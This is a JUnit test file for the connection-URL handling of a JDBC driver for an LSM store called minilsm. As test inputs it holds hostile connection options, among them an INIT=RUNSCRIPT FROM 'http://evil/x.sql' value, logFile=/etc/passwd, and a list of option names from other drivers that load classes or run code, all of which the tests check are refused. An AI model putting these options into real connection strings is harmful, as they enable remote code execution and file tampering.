package io.minilsm.jdbc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.minilsm.api.Store;
import io.minilsm.jdbc.error.SqlState;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.DriverPropertyInfo;
import java.sql.SQLException;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Properties;
import java.util.ServiceLoader;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class ConnectionUrlTest {
    @TempDir
    private Path directory;

    private final Driver driver = new Driver();

    private SQLException refused(String url) {
        return Sql.assertState("08001", () -> driver.connect(url, new Properties()));
    }

    @Test
    void driverIsFoundAsAService() {
        assertTrue(ServiceLoader.load(java.sql.Driver.class).stream()
                .anyMatch(each -> each.type() == Driver.class));
    }

    @Test
    void foreignUrlsAreLeftToOthers() throws SQLException {
        for (String url : List.of("jdbc:sqlite:/x", "jdbc:minilsm2:/x", "", "minilsm:/x", "JDBC:MINILSM:/x")) {
            assertNull(driver.connect(url, new Properties()), url);
            assertFalse(driver.acceptsURL(url), url);
        }
        assertTrue(driver.acceptsURL("jdbc:minilsm:/x"));
        assertThrows(SQLException.class, () -> driver.connect(null, null));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "/a\u0000b",
                "/a\nb",
                "file:/tmp/x",
                "http://host/x",
                "jar:file:x!/y",
                "//host/share",
                "\\\\host\\share",
                "~/store",
                "/tmp/x ",
                "/tmp/x.",
                "mem:a/b",
                "mem:../x",
                "/x?enableWal",
                "/x?enableWal=yes",
                "/x?enableWal=TRUE",
                "/x?ENABLEWAL=true",
                "/x?enableWal=true&enableWal=false",
                "/x?enableWal=true;binary=true",
                "/x?&",
                "/x?=",
                "/x?INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "/x?TRACE_LEVEL_FILE=4",
                "/x?logFile=/etc/passwd",
                "/x?memtableBytes=-1",
                "/x?memtableBytes=0",
                "/x?memtableBytes=9223372036854775808",
                "/x?memtableBytes=64kk",
                "/x?memtableBytes=",
                "/x?memtableBytes=9999999999g",
                "/x?memoryBudgetBytes=1",
                "/x?transactionBytes=1k",
                "/x?transactionBytes=2g",
                "/x?sortBytes=1k",
                "/x?sortBytes=2g",
                "/x?compression=zip",
                "/x?durability=buffered",
            })
    void badUrlsAreRefused(String rest) {
        refused("jdbc:minilsm:" + rest);
    }

    /** Options of other drivers that loaded a class, ran a script, wrote a file or called a host. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "INIT",
                "TRACE_LEVEL_FILE",
                "JAVA_OBJECT_SERIALIZER",
                "DATABASE_EVENT_LISTENER",
                "AUTO_SERVER",
                "socketFactory",
                "socketFactoryArg",
                "sslfactory",
                "authenticationPluginClassName",
                "loggerFile",
                "enable_load_extension",
                "load_extension",
                "httpclient_impl",
                "autoDeserialize",
                "queryInterceptors",
                "crypt_provider",
                "hsqldb.method_class_names",
                "jndi",
                "driverClassName"
            })
    void optionsThatLoadOrRunAreUnknownInUrlAndProperties(String name) {
        String value = directory.resolve("evil").toString();
        String store = "jdbc:minilsm:" + directory.resolve("store");
        refused(store + "?" + name + "=" + value);
        Properties properties = new Properties();
        properties.setProperty(name, value);
        Sql.assertState("08001", () -> driver.connect(store, properties));
        assertFalse(Files.exists(directory.resolve("store")));
        assertFalse(Files.exists(directory.resolve("evil")));
    }

    @Test
    void endlessUrlIsRefusedShortly() {
        assertTrue(refused("jdbc:minilsm:/" + "x".repeat(10 << 20)).getMessage().length() < 200);
        assertTrue(refused("jdbc:minilsm:/x?" + "y".repeat(9000) + "=1").getMessage().length() < 500);
    }

    @Test
    void unknownOptionNamesTheNearest() {
        assertTrue(refused("jdbc:minilsm:/x?enableWall=true").getMessage().contains("did you mean 'enableWal'"));
        assertTrue(refused("jdbc:minilsm:/x?read_only=true").getMessage().contains("did you mean 'readOnly'"));
    }

    @Test
    void propertiesCountAsOptionsAndMustNotContradict() throws SQLException {
        Properties properties = new Properties();
        properties.setProperty("user", "anyone");
        properties.setProperty("password", "secret");
        properties.setProperty("binary", "true");
        try (Connection connection = driver.connect("jdbc:minilsm:mem:?binary=true&user=x", properties)) {
            assertEquals("VARBINARY", typeOfV(connection));
        }
        Sql.assertState("08001", () -> driver.connect("jdbc:minilsm:mem:?binary=false", properties));
        properties.put("readOnly", Boolean.TRUE);
        try (Connection connection = driver.connect("jdbc:minilsm:mem:", properties)) {
            assertTrue(connection.isReadOnly());
        }
    }

    private static String typeOfV(Connection connection) throws SQLException {
        try (var statement = connection.prepareStatement("SELECT V FROM KV")) {
            return statement.getMetaData().getColumnTypeName(1);
        }
    }

    @Test
    void pathStandsAsItIs() throws SQLException {
        ConnectionUrl url = ConnectionUrl.parse("jdbc:minilsm:/tmp/%2e%2e/a b", null);
        assertEquals("/tmp/%2e%2e/a b", url.directory().toString().replace('\\', '/'));
    }

    @Test
    void connectionsToOnePathShareAnEngineAndTheLastClosesIt() throws Exception {
        Path link = directory.resolve("link");
        Path store = Files.createDirectory(directory.resolve("store"));
        Files.createSymbolicLink(link, store);
        Store shared;
        try (Connection one = DriverManager.getConnection("jdbc:minilsm:" + store);
                Connection two = DriverManager.getConnection("jdbc:minilsm:" + link + "?enableWal=true")) {
            shared = one.unwrap(Store.class);
            assertEquals(shared, two.unwrap(Store.class));
            Sql.run(one, "INSERT INTO KV VALUES ('a', '1')");
            one.close();
            assertEquals("a|1", Sql.rows(two, "SELECT * FROM KV"));
            assertEquals("1", Sql.rows(two, "SELECT 1"));
        }
        assertThrows(IllegalStateException.class, () -> shared.get(new byte[] {1}));
    }

    @Test
    void contradictionToTheOpenEngineIsTold() throws SQLException {
        String url = "jdbc:minilsm:" + directory.resolve("s");
        try (Connection one = DriverManager.getConnection(url)) {
            assertNotNull(one);
            assertTrue(refused(url + "?enableWal=false").getMessage().contains("enableWal"));
        }
    }

    @Test
    void storesInMemoryAreSharedByNameAndGoneWhenClosed() throws SQLException {
        try (Connection one = DriverManager.getConnection("jdbc:minilsm:mem:shared");
                Connection two = DriverManager.getConnection("jdbc:minilsm:mem:shared");
                Connection nameless = DriverManager.getConnection("jdbc:minilsm:mem:")) {
            Sql.run(one, "INSERT INTO KV VALUES ('a', '1')");
            assertEquals("a|1", Sql.rows(two, "SELECT * FROM KV"));
            assertEquals("", Sql.rows(nameless, "SELECT * FROM KV"));
        }
        try (Connection again = DriverManager.getConnection("jdbc:minilsm:mem:shared")) {
            assertEquals("", Sql.rows(again, "SELECT * FROM KV"));
        }
    }

    @Test
    void propertyInfoListsEveryOption() throws SQLException {
        DriverPropertyInfo[] infos = driver.getPropertyInfo("jdbc:minilsm:/x?binary=true", new Properties());
        assertEquals(DriverOption.values().length, infos.length);
        for (DriverPropertyInfo info : infos) {
            assertNotNull(info.description, info.name);
            assertFalse(info.required);
            assertEquals(info.name.equals("binary"), "true".equals(info.value) && info.name.equals("binary"));
        }
    }

    @Test
    void dataSourceHasASetterForEveryOption() throws Exception {
        for (DriverOption option : DriverOption.values()) {
            String name = option.optionName();
            String setter = "set" + name.substring(0, 1).toUpperCase(Locale.ROOT) + name.substring(1);
            assertTrue(
                    Arrays.stream(MiniLsmDataSource.class.getMethods())
                            .anyMatch(method -> method.getName().equals(setter)),
                    setter);
        }
        MiniLsmDataSource source = new MiniLsmDataSource();
        Sql.assertState("08001", source::getConnection);
        source.setDirectory(directory.resolve("ds").toString());
        source.setBinary(true);
        source.setTransactionBytes("1m");
        Sql.assertState("08001", () -> source.setOption("nothing", "1"));
        Sql.assertState("08001", () -> source.setDurability("none"));
        try (Connection connection = source.getConnection("anyone", "anything")) {
            assertEquals("VARBINARY", typeOfV(connection));
        }
    }

    @Test
    void documentationListsEveryOptionAndState() throws Exception {
        Path page = Path.of("").toAbsolutePath();
        while (page != null && !Files.exists(page.resolve("docs/jdbc.md"))) {
            page = page.getParent();
        }
        assertNotNull(page, "docs/jdbc.md");
        String text = Files.readString(page.resolve("docs/jdbc.md"));
        for (DriverOption option : DriverOption.values()) {
            String standard = option.defaultValue().isEmpty() ? "the engine's" : "`" + option.defaultValue() + "`";
            String line = "| `" + option.optionName() + "` | " + standard + " | " + option.description() + " |";
            assertTrue(text.contains(line), "missing in docs/jdbc.md: " + line);
        }
        for (SqlState state : SqlState.values()) {
            String line = "| `" + state.code() + "` | " + state.meaning() + " |";
            assertTrue(text.contains(line), "missing in docs/jdbc.md: " + line);
        }
    }

    @Test
    void passwordIsNeverShown() throws SQLException {
        String url = "jdbc:minilsm:mem:?user=me&binary=true&password=secret";
        Connection connection = driver.connect(url, null);
        assertEquals("jdbc:minilsm:mem:?binary=true", connection.getMetaData().getURL());
        connection.close();
        SQLException closed = Sql.assertState("08003", connection::createStatement);
        assertFalse(closed.getMessage().contains("secret"), closed.getMessage());
        String nowhere = "jdbc:minilsm:/dev/null/x?password=secret";
        assertFalse(refused(nowhere).getMessage().contains("secret"));
        MiniLsmDataSource source = new MiniLsmDataSource("jdbc:other://host/x?password=secret");
        assertFalse(Sql.assertState("08001", source::getConnection).getMessage().contains("secret"));
    }
}
